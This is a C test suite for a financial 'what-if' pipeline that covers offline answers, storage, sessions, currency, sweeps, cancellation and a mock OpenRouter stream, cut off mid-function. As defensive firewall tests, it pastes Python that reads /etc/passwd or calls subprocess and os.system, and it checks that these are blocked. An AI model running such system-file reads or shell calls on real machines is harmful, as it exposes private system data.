/* test-pipeline.c: the whole pipeline with the real store and the real sandbox
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Offline path only for the model: the templates answer, and everything after
 * generate (repair, firewall, bubblewrap, SQLite) is the real thing. Expected
 * figures are computed here independently of the templates.
 */
#include "config.h"

#include <math.h>
#include <stdarg.h>
#include <string.h>

#include "wf-currency.h"
#include "wf-pipeline.h"
#include "wf-pipeline-providers.h"
#include "wf-prompt.h"
#include "wf-secrets.h"
#include "wf-store.h"
#include "wf-templates.h"
#include "mock/wf-mock-server.h"

static char *db_path;

/* Distinctive, so that a leak anywhere can be found by grepping for it. */
#define FAKE_KEY "sk-or-v1-leakcheck0f3a9c2e5b1d4a6f8e0c7b9d1e3f5a7c"
#define FAKE_TELEMETRY_SECRET "dGVsZW1ldHJ5LXNlY3JldC03YjJlOWQ="

static double
pmt (double principal, double annual_rate, int months)
{
  double r = annual_rate / 12.0;

  if (r == 0)
    return principal / months;
  return principal * r / (1 - pow (1 + r, -months));
}

static WfPipeline *
new_pipeline (void)
{
  return wf_pipeline_new (db_path, NULL);
}

static WfStore *
open_store (void)
{
  g_autoptr(GError) error = NULL;
  WfStore *store = wf_store_open (db_path, &error);

  g_assert_no_error (error);
  return store;
}

static WfRun *
ask (WfPipeline *pipeline,
     const char *question,
     gint64      session_id)
{
  g_autoptr(GError) error = NULL;
  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, question);
  WfRun *run;

  req->session_id = session_id;
  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (run);
  g_assert_cmpint (run->id, >, 0);
  g_assert_cmpint (run->session_id, >, 0);
  return run;
}

static const WfMetric *
find_metric (const WfRun *run,
             const char  *name)
{
  guint i;

  g_assert_nonnull (run->result);
  for (i = 0; i < run->result->metrics->len; i++)
    {
      const WfMetric *m = g_ptr_array_index (run->result->metrics, i);

      if (g_strcmp0 (m->name, name) == 0)
        return m;
    }
  g_error ("run %" G_GINT64_FORMAT " has no metric %s", run->id, name);
  return NULL;
}

static gboolean
has_stage (const WfRun *run,
           const char  *name)
{
  guint i;

  for (i = 0; i < run->spans->len; i++)
    if (g_strcmp0 (((WfCostSpan *) g_ptr_array_index (run->spans, i))->stage, name) == 0)
      return TRUE;
  return FALSE;
}

static const char *questions[] = {
  "can I afford a 40k van loan at 7.5% over 5 years?",
  "What's my monthly payment on a $250,000 mortgage at 6.5% for 30 years?",
  "If I borrow $15,000 at 9% over 36 months what will the payments be?",
  "monthly payment for a 1.2m loan, 5.25% APR, 20 years",
  "How much total interest will I pay on a $30,000 loan at 8% over 6 years?",
  "How long will it take to pay off $5,000 on my credit card at 19.9% if I pay $200 a month?",
  "how long until I'm debt free: $12k balance, 7% interest, paying $400 per month",
  "Is it worth investing $50,000 in a machine that saves $15,000 a year for 5 years at an 8% discount rate?",
  "What is the IRR if I invest $200,000 and it returns $55,000 a year for 6 years?",
  "What is $10,000 received in 5 years worth today at 6%?",
  "future value of $25,000 at 7% for 12 years",
  "What's the effective annual rate of an 18% APR compounded monthly?",
  "Revenue went from $400k to $650k in 3 years, what's the CAGR?",
  "How long does it take money to double at 7% growth?",
  "If sales are $500,000 and grow 15% a year, what will they be in 5 years?",
  "How many units do I need to sell to break even if I sell at $45, it costs $18 to make, and fixed costs are $9,000 a month?",
  "breakeven point with $25,000 fixed costs, unit price 120 and variable cost 70",
  "We have 1,200 subscribers paying $25 a month. What if we increase prices 20% and 8% churn?",
  "How long will my cash last? I have $180,000 in the bank and burn $22,000 a month.",
  "cash runway: $400,000 in the bank, burn 35k a month",
  "How long until a $20,000 machine pays for itself if it saves $6,000 a year?",
  "I buy them for $30 and sell for $50, what's my margin?",
  "What should I charge for a product that costs $12 to get a 40% margin?",
  "If it costs $80 and I apply a 35% markup, what's the price?",
  "straight-line depreciation on a $50,000 van over 5 years with $5,000 salvage value",
  "declining balance depreciation for equipment costing 90,000 over 10 years",
  "What's my DSO with $2.4m revenue a year and $300k receivables?",
  "What's the economic order quantity for 5,000 units a year, $40 per order and $2.50 to hold each unit?",
  "What does it really cost to hire 2 developers at $85,000 salary?",
  "If I save $500 a month at 5% for 10 years, how much will I have?",
  "retirement: save 1,000 per month for 25 years at 7% compound interest",
  "present value of an annuity of $500 a month for 10 years at 5%",
};

/* ≥ 30 questions answered offline, each persisted whole with its session. */
static void
test_offline_questions (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  gint64 before = wf_store_count_runs (store, 0, &error);
  guint i;

  g_assert_cmpuint (G_N_ELEMENTS (questions), >=, 30);
  for (i = 0; i < G_N_ELEMENTS (questions); i++)
    {
      g_autoptr(WfRun) run = ask (pipeline, questions[i], 0);
      g_autoptr(WfRun) stored = NULL;
      g_autoptr(WfSessionInfo) session = NULL;
      const WfMetric *first;

      if (run->outcome != WF_OUTCOME_ANSWERED)
        g_error ("“%s”: %s: %s", questions[i], wf_outcome_to_string (run->outcome), run->message);
      g_assert_cmpstr (run->provider, ==, "offline");
      g_assert_cmpuint (run->result->metrics->len, >, 0);
      g_assert_cmpuint (run->result->params->len, >, 0);
      first = g_ptr_array_index (run->result->metrics, 0);
      g_assert_true (isfinite (first->value));
      g_assert_true (has_stage (run, "firewall"));
      g_assert_true (has_stage (run, "execute"));
      g_assert_nonnull (run->verdict_json);

      stored = wf_store_load_run (store, run->id, &error);
      g_assert_no_error (error);
      g_assert_cmpint (stored->outcome, ==, WF_OUTCOME_ANSWERED);
      g_assert_cmpstr (stored->question, ==, questions[i]);
      g_assert_cmpstr (stored->code_hash, ==, run->code_hash);
      g_assert_nonnull (stored->result);
      g_assert_cmpuint (stored->result->metrics->len, ==, run->result->metrics->len);
      g_assert_cmpfloat_with_epsilon (((WfMetric *) g_ptr_array_index (stored->result->metrics, 0))->value,
                                      first->value, fabs (first->value) * 1e-12 + 1e-12);
      /* The reply stage happens after the save. */
      g_assert_cmpuint (stored->spans->len + 1, ==, run->spans->len);
      session = wf_store_get_session (store, run->session_id, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (session->n_runs, ==, 1);
    }
  g_assert_cmpint (wf_store_count_runs (store, 0, &error), ==, before + G_N_ELEMENTS (questions));
  g_assert_true (wf_store_check_integrity (store, &error));
  g_assert_no_error (error);
}

static void
test_van_loan (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfRun) run = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
  g_autoptr(JsonNode) json = NULL;
  JsonObject *obj;
  double expected = pmt (40000, 0.075, 60);

  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpfloat_with_epsilon (find_metric (run, "Monthly payment")->value, expected, 1e-6);
  g_assert_cmpfloat_with_epsilon (expected, 801.52, 0.005);
  g_assert_cmpfloat_with_epsilon (find_metric (run, "Total paid")->value, expected * 60, 1e-6);

  json = wf_pipeline_run_to_json (run);
  obj = json_node_get_object (json);
  g_assert_cmpstr (json_object_get_string_member (obj, "outcome"), ==, "answered");
  g_assert_cmpint (json_object_get_int_member (obj, "run_id"), ==, run->id);
  g_assert_true (json_object_get_null_member (obj, "clarification"));
  g_assert_cmpfloat (json_object_get_double_member (json_object_get_object_member (obj, "cost"), "total_usd"),
                     ==, 0.0);
  g_assert_cmpuint (json_array_get_length (json_object_get_array_member (obj, "stages")), >=, 10);
  g_assert_cmpstr (json_object_get_string_member (
                     json_array_get_object_element (json_object_get_array_member (obj, "stages"), 0), "name"),
                   ==, "validate");
}

static void
test_clarify_refuse (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) refused = ask (pipeline, "write me a poem about cats", 0);
  g_autoptr(WfRun) clarify = ask (pipeline, "should I invest in a new espresso machine?", 0);
  g_autoptr(WfRun) empty = ask (pipeline, "   ", 0);
  g_autoptr(WfRun) stored = NULL;
  g_autoptr(JsonNode) cl = NULL;
  JsonArray *options;

  g_assert_cmpint (refused->outcome, ==, WF_OUTCOME_REFUSED);
  g_assert_nonnull (refused->message);
  g_assert_null (refused->code);
  g_assert_false (has_stage (refused, "execute"));
  g_assert_cmpint (empty->outcome, ==, WF_OUTCOME_REFUSED);

  g_assert_cmpint (clarify->outcome, ==, WF_OUTCOME_NEEDS_CLARIFICATION);
  stored = wf_store_load_run (store, clarify->id, &error);
  g_assert_no_error (error);
  g_assert_cmpint (stored->outcome, ==, WF_OUTCOME_NEEDS_CLARIFICATION);
  g_assert_nonnull (stored->clarification_json);
  cl = json_from_string (stored->clarification_json, &error);
  g_assert_no_error (error);
  options = json_object_get_array_member (json_node_get_object (cl), "options");
  g_assert_cmpuint (json_array_get_length (options), >=, 2);
  g_assert_cmpuint (json_array_get_length (options), <=, 4);
  g_clear_pointer (&stored, wf_run_free);
  stored = wf_store_load_run (store, refused->id, &error);
  g_assert_no_error (error);
  g_assert_cmpint (stored->outcome, ==, WF_OUTCOME_REFUSED);
}

static void
test_needs_provider (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) run = NULL;
  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, "can I afford a 40k van loan at 7.5% over 5 years?");

  /* A provider that was never registered is not set up. */
  req->provider = g_strdup ("openrouter");
  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_NEEDS_PROVIDER);
  g_assert_nonnull (strstr (run->message, "keys set"));
  g_assert_cmpint (run->id, >, 0);
}

static void
test_follow_up (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) first = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
  g_autoptr(WfRun) second = ask (pipeline, "what about 6%?", first->session_id);
  g_autoptr(WfRun) third = ask (pipeline, "and over 7 years", first->session_id);
  g_autoptr(WfSessionInfo) info = NULL;

  g_assert_cmpint (second->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpint (second->session_id, ==, first->session_id);
  g_assert_cmpfloat_with_epsilon (find_metric (second, "Monthly payment")->value, pmt (40000, 0.06, 60), 1e-6);
  g_assert_cmpint (third->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpfloat_with_epsilon (find_metric (third, "Monthly payment")->value, pmt (40000, 0.06, 84), 1e-6);
  info = wf_store_get_session (store, first->session_id, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (info->n_runs, ==, 3);

  /* A session that does not exist is an error, and nothing is stored. */
  {
    WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, "what about 6%?");
    gint64 before = wf_store_count_runs (store, 0, NULL);

    req->session_id = 987654;
    g_assert_null (wf_pipeline_run_sync (pipeline, req, NULL, &error));
    g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_NOT_FOUND);
    g_assert_cmpint (wf_store_count_runs (store, 0, NULL), ==, before);
  }
}

static void
assert_money_in (const WfRun *run,
                 const char  *currency)
{
  const char *money[] = { "Monthly payment", "Total interest", "Total paid" };

  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  for (guint i = 0; i < G_N_ELEMENTS (money); i++)
    g_assert_cmpstr (find_metric (run, money[i])->unit, ==, currency);
}

/* Offline answers are in the currency the question names, else in the
 * pipeline's default; a follow-up keeps or switches it. */
static void
test_currency (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfRun) plain = NULL;
  g_autoptr(WfRun) euros = NULL;
  g_autoptr(WfRun) longer = NULL;
  g_autoptr(WfRun) named = NULL;
  g_autoptr(WfRun) reset = NULL;
  g_autofree char *locale_code = wf_currency_from_locale ();

  wf_pipeline_set_currency (pipeline, "GBP");
  plain = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
  assert_money_in (plain, "GBP");
  g_assert_nonnull (strstr (plain->code, "CURRENCY = \"GBP\"  # your default currency"));
  g_assert_nonnull (strstr (plain->explanation, "\xc2\xa3" "40,000"));

  euros = ask (pipeline, "and in euros?", plain->session_id);
  assert_money_in (euros, "EUR");
  g_assert_nonnull (strstr (euros->code, "CURRENCY = \"EUR\"  # the currency you named"));
  g_assert_cmpfloat_with_epsilon (find_metric (euros, "Monthly payment")->value, pmt (40000, 0.075, 60), 1e-6);
  /* The one-line answer writes amounts as a person does: €801.52, never 4.809e+04. */
  g_test_message ("answer: %s", euros->answer);
  g_assert_true (g_str_has_prefix (euros->answer, "Monthly payment: \u20ac801.52;"));
  g_assert_nonnull (strstr (euros->answer, "Total paid: \u20ac48091.08"));
  g_assert_null (strstr (euros->answer, "e+"));

  /* Replayed from the session: the euros stay. */
  longer = ask (pipeline, "and over 7 years", plain->session_id);
  assert_money_in (longer, "EUR");
  g_assert_cmpfloat_with_epsilon (find_metric (longer, "Monthly payment")->value, pmt (40000, 0.075, 84), 1e-6);

  named = ask (pipeline, "Kredit von 40.000 Euro zu 5% \xc3\xbc" "ber 10 Jahre, wie hoch ist die monatliche Rate?", 0);
  assert_money_in (named, "EUR");

  /* NULL: back to the locale's. */
  wf_pipeline_set_currency (pipeline, NULL);
  reset = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
  assert_money_in (reset, locale_code);
}

static void
test_rerun (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) parent = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
  g_autoptr(WfRun) child = NULL;
  g_autoptr(WfRun) stored = NULL;
  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, NULL);

  req->parent_run_id = parent->id;
  wf_run_request_set_override (req, "Annual interest rate", 5.0);
  wf_run_request_set_override (req, "Loan amount", 30000);
  child = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (child->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpint (child->parent_run_id, ==, parent->id);
  g_assert_cmpint (child->session_id, ==, parent->session_id);
  g_assert_cmpint (child->id, !=, parent->id);
  g_assert_cmpstr (child->code_hash, ==, parent->code_hash);
  g_assert_false (has_stage (child, "generate"));
  g_assert_false (has_stage (child, "firewall"));
  g_assert_cmpfloat_with_epsilon (find_metric (child, "Monthly payment")->value, pmt (30000, 0.05, 60), 1e-6);
  g_assert_cmpfloat (find_metric (child, "Monthly payment")->value, !=,
                     find_metric (parent, "Monthly payment")->value);

  stored = wf_store_load_run (store, child->id, &error);
  g_assert_no_error (error);
  g_assert_cmpint (stored->parent_run_id, ==, parent->id);
  g_assert_nonnull (stored->overrides_json);
  g_assert_nonnull (strstr (stored->overrides_json, "Annual interest rate"));

  /* A run that does not exist is an error, and nothing is stored. */
  req = wf_run_request_new (WF_MODE_ASK, NULL);
  req->parent_run_id = 999999;
  g_assert_null (wf_pipeline_run_sync (pipeline, req, NULL, &error));
  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_NOT_FOUND);
}

static void
test_sweep (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) parent = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
  g_autoptr(WfTable) table = NULL;
  WfSweepAxis axis = { (char *) "Annual interest rate", 5, 9, 1 };
  WfSweepAxis grid[2] = { { (char *) "Annual interest rate", 5, 9, 1 }, { (char *) "Term", 12, 480, 1 } };
  const char *metrics[] = { "Monthly payment", "Total interest", NULL };
  guint i;

  table = wf_pipeline_sweep (pipeline, parent->id, &axis, 1, metrics, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (table->columns->len, ==, 3);
  g_assert_cmpuint (wf_table_get_n_rows (table), ==, 5);
  for (i = 0; i < 5; i++)
    {
      JsonArray *row = json_array_get_array_element (table->rows, i);
      double rate = json_array_get_double_element (row, 0);
      double p = pmt (40000, rate / 100, 60);

      g_assert_cmpfloat_with_epsilon (rate, 5 + i, 1e-9);
      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 1), p, 1e-6);
      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 2), p * 60 - 40000, 1e-5);
    }

  /* 5 × 469 points is over the limit: refused before anything runs. */
  g_clear_pointer (&table, wf_table_free);
  table = wf_pipeline_sweep (pipeline, parent->id, grid, 2, metrics, NULL, &error);
  g_assert_null (table);
  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_INVALID);
  g_clear_error (&error);
  axis.step = -1;
  table = wf_pipeline_sweep (pipeline, parent->id, &axis, 1, metrics, NULL, &error);
  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_INVALID);
}

typedef struct
{
  GMainLoop    *loop;
  GCancellable *cancellable;
  WfRun        *run;
  GError       *error;
  GPtrArray    *started;
  guint         n_finished;
  gboolean      wrong_thread;
  const char   *cancel_at;
} AsyncData;

static void
on_started (WfPipeline *pipeline,
            const char *name,
            AsyncData  *data)
{
  if (g_main_context_default () != g_main_context_get_thread_default () &&
      g_main_context_get_thread_default () != NULL)
    data->wrong_thread = TRUE;
  if (!g_main_context_is_owner (g_main_context_default ()))
    data->wrong_thread = TRUE;
  g_ptr_array_add (data->started, g_strdup (name));
  if (data->cancel_at != NULL && g_str_equal (name, data->cancel_at))
    g_cancellable_cancel (data->cancellable);
}

static void
on_finished (WfPipeline *pipeline,
             const char *name,
             gint64      ms,
             const char *status,
             AsyncData  *data)
{
  g_assert_cmpint (ms, >=, 0);
  g_assert_nonnull (status);
  data->n_finished++;
}

static void
run_done (GObject      *source,
          GAsyncResult *result,
          gpointer      user_data)
{
  AsyncData *data = user_data;

  data->run = wf_pipeline_run_finish (WF_PIPELINE (source), result, &data->error);
  g_main_loop_quit (data->loop);
}

static void
run_async (WfPipeline *pipeline,
           const char *question,
           AsyncData  *data)
{
  data->loop = g_main_loop_new (NULL, FALSE);
  data->cancellable = g_cancellable_new ();
  data->started = g_ptr_array_new_with_free_func (g_free);
  g_signal_connect (pipeline, "stage-started", G_CALLBACK (on_started), data);
  g_signal_connect (pipeline, "stage-finished", G_CALLBACK (on_finished), data);
  wf_pipeline_run_async (pipeline, wf_run_request_new (WF_MODE_ASK, question), data->cancellable,
                         run_done, data);
  g_main_loop_run (data->loop);
  /* Let the last queued progress events arrive. */
  while (g_main_context_iteration (NULL, FALSE))
    ;
  g_signal_handlers_disconnect_by_data (pipeline, data);
}

static void
async_data_clear (AsyncData *data)
{
  g_clear_pointer (&data->loop, g_main_loop_unref);
  g_clear_object (&data->cancellable);
  g_clear_pointer (&data->run, wf_run_free);
  g_clear_error (&data->error);
  g_clear_pointer (&data->started, g_ptr_array_unref);
}

static void
test_async_progress (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  AsyncData data = { 0 };

  run_async (pipeline, "cash runway: $400,000 in the bank, burn 35k a month", &data);
  g_assert_no_error (data.error);
  g_assert_cmpint (data.run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_false (data.wrong_thread);
  g_assert_cmpuint (data.started->len, ==, data.run->spans->len);
  g_assert_cmpuint (data.n_finished, ==, data.run->spans->len);
  g_assert_cmpstr (g_ptr_array_index (data.started, 0), ==, "validate");
  g_assert_cmpstr (g_ptr_array_index (data.started, data.started->len - 1), ==, "reply");
  async_data_clear (&data);
}

/* Cancelled while the sandbox runs: the run is stored whole as cancelled (or,
 * if the sandbox finished first, as answered), never half. */
static void
test_cancel (void)
{
  const char *points[] = { "classify", "generate", "firewall", "execute" };
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  gint64 before = wf_store_count_runs (store, 0, &error);
  guint i, n_cancelled = 0;

  for (i = 0; i < G_N_ELEMENTS (points); i++)
    {
      AsyncData data = { 0 };
      g_autoptr(WfRun) stored = NULL;

      data.cancel_at = points[i];
      run_async (pipeline, "What's my monthly payment on a $250,000 mortgage at 6.5% for 30 years?", &data);
      g_assert_no_error (data.error);
      g_assert_true (data.run->outcome == WF_OUTCOME_CANCELLED || data.run->outcome == WF_OUTCOME_ANSWERED);
      if (data.run->outcome == WF_OUTCOME_CANCELLED)
        {
          n_cancelled++;
          g_assert_nonnull (data.run->message);
        }
      stored = wf_store_load_run (store, data.run->id, &error);
      g_assert_no_error (error);
      g_assert_cmpint (stored->outcome, ==, data.run->outcome);
      g_assert_cmpuint (stored->spans->len + 1, ==, data.run->spans->len);
      async_data_clear (&data);
    }
  /* Cancelling at classify always lands before any work. */
  g_assert_cmpuint (n_cancelled, >=, 1);
  g_assert_cmpint (wf_store_count_runs (store, 0, &error), ==, before + G_N_ELEMENTS (points));
  g_assert_true (wf_store_check_integrity (store, &error));
  g_assert_no_error (error);
}

static void
test_paste_python (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) ok = NULL;
  g_autoptr(WfRun) blocked = NULL;
  WfRunRequest *req = wf_run_request_new (WF_MODE_PYTHON, "model.py");

  req->code = g_strdup ("import whatif as wf\nx = wf.param('x', 3, kind='number')\nwf.metric('square', x * x)\n");
  ok = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (ok->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpfloat (find_metric (ok, "square")->value, ==, 9.0);

  req = wf_run_request_new (WF_MODE_PYTHON, "evil.py");
  req->code = g_strdup ("import os\nprint(open('/etc/passwd').read())\n");
  blocked = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (blocked->outcome, ==, WF_OUTCOME_BLOCKED);
  g_assert_null (blocked->result);
  g_assert_cmpint (blocked->id, >, 0);
}

static WfRun *
paste (WfPipeline *pipeline,
       const char *code)
{
  g_autoptr(GError) error = NULL;
  WfRunRequest *req = wf_run_request_new (WF_MODE_PYTHON, "model.py");
  WfRun *run;

  req->code = g_strdup (code);
  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  return run;
}

/* The firewall's verdict comes with the run (checked in the same sandbox job
 * on the local backend) and is stored; a blocked program never executes. */
static void
test_verdict_with_run (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) ok = paste (pipeline, "import whatif as wf\nwf.metric('one', 1)\n");
  g_autoptr(WfRun) blocked = paste (pipeline, "import whatif as wf\nimport subprocess\nwf.metric('one', 1)\n");
  g_autoptr(WfRun) stored = NULL;

  g_assert_cmpint (ok->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_nonnull (ok->verdict_json);
  g_assert_nonnull (strstr (ok->verdict_json, "\"allow\""));
  g_assert_true (has_stage (ok, "firewall") && has_stage (ok, "execute"));
  stored = wf_store_load_run (store, ok->id, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (stored->verdict_json, ==, ok->verdict_json);

  g_assert_cmpint (blocked->outcome, ==, WF_OUTCOME_BLOCKED);
  g_assert_nonnull (strstr (blocked->verdict_json, "\"block\""));
  g_assert_nonnull (strstr (blocked->message, "before it ran"));
  g_assert_false (has_stage (blocked, "execute"));
  g_assert_null (blocked->result);
}

/* A sweep of pasted code: a grid of two assumptions, points where the program
 * fails give empty cells, and code the firewall refused is never swept. */
static void
test_sweep_grid (void)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(GError) error = NULL;
  g_autoptr(WfRun) model = paste (pipeline,
    "import whatif as wf\n"
    "a = wf.param('a', 1, kind='number')\n"
    "b = wf.param('b', 1, kind='number')\n"
    "if a * b > 10:\n"
    "    raise ValueError('too large')\n"
    "wf.metric('product', a * b)\n"
    "wf.metric('sum', a + b)\n"
    "wf.table('t', [[a, b]])\n");
  g_autoptr(WfRun) blocked = paste (pipeline, "import os\nos.system('true')\n");
  g_autoptr(WfTable) table = NULL;
  WfSweepAxis grid[2] = { { (char *) "a", 1, 4, 1 }, { (char *) "b", 2, 4, 0.5 } };
  const char *metrics[] = { "sum", "product", "missing", NULL };
  guint i, n_null = 0;

  g_assert_cmpint (model->outcome, ==, WF_OUTCOME_ANSWERED);
  table = wf_pipeline_sweep (pipeline, model->id, grid, 2, metrics, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (table->columns->len, ==, 5);
  g_assert_cmpstr (g_ptr_array_index (table->columns, 0), ==, "a");
  g_assert_cmpstr (g_ptr_array_index (table->columns, 3), ==, "product");
  g_assert_cmpuint (wf_table_get_n_rows (table), ==, 4 * 5);
  for (i = 0; i < 20; i++)
    {
      JsonArray *row = json_array_get_array_element (table->rows, i);
      double a = 1 + i / 5, b = 2 + 0.5 * (i % 5);

      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 0), a, 1e-12);
      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 1), b, 1e-12);
      g_assert_true (json_node_is_null (json_array_get_element (row, 4)));
      if (a * b > 10)
        {
          g_assert_true (json_node_is_null (json_array_get_element (row, 2)));
          g_assert_true (json_node_is_null (json_array_get_element (row, 3)));
          n_null++;
          continue;
        }
      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 2), a + b, 1e-12);
      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 3), a * b, 1e-12);
    }
  /* a=3: b=3.5, 4; a=4: b=3, 3.5, 4 */
  g_assert_cmpuint (n_null, ==, 5);

  g_assert_cmpint (blocked->outcome, ==, WF_OUTCOME_BLOCKED);
  g_clear_pointer (&table, wf_table_free);
  table = wf_pipeline_sweep (pipeline, blocked->id, grid, 1, metrics, NULL, &error);
  g_assert_null (table);
  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_INVALID);
}

/* ---- end to end with a mock OpenRouter speaking the real wire format ---- */

typedef struct
{
  GMutex  lock;
  GQueue  answers;      /* (element-type utf8): content, or "429" */
  guint   hits;
  gboolean omit_cost;   /* usage without OpenRouter's cost: priced from the catalogue */
  const char *model;    /* nullable: the model ask_remote asks for */
} Remote;

static Remote remote;

static gboolean
wants_stream (SoupServerMessage *msg)
{
  SoupMessageBody *body = soup_server_message_get_request_body (msg);
  g_autoptr(JsonParser) parser = json_parser_new ();
  JsonNode *root;

  if (body == NULL || body->data == NULL ||
      !json_parser_load_from_data (parser, body->data, body->length, NULL))
    return FALSE;
  root = json_parser_get_root (parser);
  return JSON_NODE_HOLDS_OBJECT (root) &&
         json_object_get_boolean_member_with_default (json_node_get_object (root), "stream", FALSE);
}

static char *
stream_chunk (const char *content,
              const char *finish)
{
  g_autoptr(JsonBuilder) b = json_builder_new ();
  g_autoptr(JsonNode) root = NULL;
  g_autofree char *json = NULL;

  json_builder_begin_object (b);
  json_builder_set_member_name (b, "id");
  json_builder_add_string_value (b, "gen-test");
  json_builder_set_member_name (b, "object");
  json_builder_add_string_value (b, "chat.completion.chunk");
  json_builder_set_member_name (b, "model");
  json_builder_add_string_value (b, "openai/gpt-4o-mini");
  json_builder_set_member_name (b, "choices");
  json_builder_begin_array (b);
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "index");
  json_builder_add_int_value (b, 0);
  json_builder_set_member_name (b, "delta");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "content");
  json_builder_add_string_value (b, content);
  json_builder_end_object (b);
  json_builder_set_member_name (b, "finish_reason");
  if (finish != NULL)
    json_builder_add_string_value (b, finish);
  else
    json_builder_add_null_value (b);
  json_builder_end_object (b);
  json_builder_end_array (b);
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  json = json_to_string (root, FALSE);
  return g_strdup_printf ("data: %s\n\n", json);
}

/* OpenRouter's server-sent events: the answer in small deltas (cut inside
 * escapes on purpose), the finish reason, a usage chunk with the cost, [DONE]. */
static void
reply_stream (SoupServerMessage *msg,
              const char        *content)
{
  g_autoptr(GPtrArray) events = g_ptr_array_new_with_free_func (g_free);
  gsize len = strlen (content), i;

  g_ptr_array_add (events, g_strdup (": OPENROUTER PROCESSING\n\n"));
  for (i = 0; i < len; i += 7)
    {
      g_autofree char *piece = g_strndup (content + i, 7);

      g_ptr_array_add (events, stream_chunk (piece, NULL));
    }
  g_ptr_array_add (events, stream_chunk ("", "stop"));
  g_ptr_array_add (events, g_strdup ("data: {\"id\":\"gen-test\",\"object\":\"chat.completion.chunk\","
                                     "\"model\":\"openai/gpt-4o-mini\",\"choices\":[],\"usage\":"
                                     "{\"prompt_tokens\":1000,\"completion_tokens\":200,\"total_tokens\":1200,"
                                     "\"cost\":0.0012}}\n\n"));
  g_ptr_array_add (events, g_strdup ("data: [DONE]\n\n"));
  g_ptr_array_add (events, NULL);
  wf_mock_reply_sse (msg, (const char * const *) events->pdata);
}

static void
chat_handler (SoupServer        *server,
              SoupServerMessage *msg,
              const char        *path,
              GHashTable        *query,
              gpointer           user_data)
{
  g_autofree char *content = NULL;
  g_autoptr(JsonBuilder) b = json_builder_new ();
  g_autoptr(JsonNode) root = NULL;
  g_autofree char *body = NULL;

  g_mutex_lock (&remote.lock);
  remote.hits++;
  content = g_queue_pop_head (&remote.answers);
  g_mutex_unlock (&remote.lock);
  if (g_strcmp0 (content, "429") == 0)
    {
